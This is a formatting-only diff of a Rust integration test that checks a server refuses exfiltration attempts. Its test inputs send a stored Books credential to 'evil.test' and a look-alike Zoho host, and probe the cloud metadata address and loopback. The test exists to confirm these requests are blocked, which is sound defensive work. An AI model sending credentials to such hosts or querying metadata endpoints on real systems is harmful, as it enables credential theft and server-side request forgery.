@@ -19,12 +19,18 @@ fn invoke(url: &str, connection: Option<&str>) -> String {
 }
 
 fn error_message(report: &Value) -> String {
-    report["error"]["message"].as_str().unwrap_or_default().to_owned()
+    report["error"]["message"]
+        .as_str()
+        .unwrap_or_default()
+        .to_owned()
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn exfiltration_attempts_are_refused_on_the_server_path() {
-    let Some(issuer) = peer("TRESTLE_TEST_OIDC_ISSUER", "exfiltration_attempts_are_refused") else {
+    let Some(issuer) = peer(
+        "TRESTLE_TEST_OIDC_ISSUER",
+        "exfiltration_attempts_are_refused",
+    ) else {
         return;
     };
     let harness = start(issuer).await;
@@ -37,16 +43,25 @@ async fn exfiltration_attempts_are_refused_on_the_server_path() {
 
     // 1. The Books credential to a host outside the Books service.
     let report = harness
-        .run(&invoke("https://evil.test/steal", Some(BOOKS_LINK)), json!({}))
+        .run(
+            &invoke("https://evil.test/steal", Some(BOOKS_LINK)),
+            json!({}),
+        )
         .await;
     let message = error_message(&report);
-    assert!(message.contains("evil.test") && message.contains(BOOKS_LINK), "{report}");
+    assert!(
+        message.contains("evil.test") && message.contains(BOOKS_LINK),
+        "{report}"
+    );
     assert_eq!(report["effects"][0]["kind"], "invoke_url");
 
     // 2. A look-alike host.
     let report = harness
         .run(
-            &invoke("https://books.zoho.com.evil.test/api/v3/contacts", Some(BOOKS_LINK)),
+            &invoke(
+                "https://books.zoho.com.evil.test/api/v3/contacts",
+                Some(BOOKS_LINK),
+            ),
             json!({}),
         )
         .await;
@@ -82,12 +97,18 @@ async fn exfiltration_attempts_are_refused_on_the_server_path() {
     // 4. Cloud metadata and 5. IPv4-mapped loopback, without a connection.
     for url in [
         "http://169.254.169.254/latest/meta-data/".to_owned(),
-        format!("http://[::ffff:127.0.0.1]:{}/collect", capture.address().port()),
+        format!(
+            "http://[::ffff:127.0.0.1]:{}/collect",
+            capture.address().port()
+        ),
         // 6. The capture server itself: loopback, not routed, so the guard refuses it.
         format!("{}/collect", capture.uri()),
     ] {
         let report = harness.run(&invoke(&url, None), json!({})).await;
-        assert!(report.get("error").is_some(), "{url} was not refused: {report}");
+        assert!(
+            report.get("error").is_some(),
+            "{url} was not refused: {report}"
+        );
     }
     assert!(
         capture.received_requests().await.unwrap().is_empty(),
@@ -105,5 +126,8 @@ async fn exfiltration_attempts_are_refused_on_the_server_path() {
         .await;
     assert_eq!(status, 200);
     assert!(report.get("error").is_some(), "{report}");
-    assert_eq!(harness.books.received_requests().await.unwrap().len(), before);
+    assert_eq!(
+        harness.books.received_requests().await.unwrap().len(),
+        before
+    );
 }
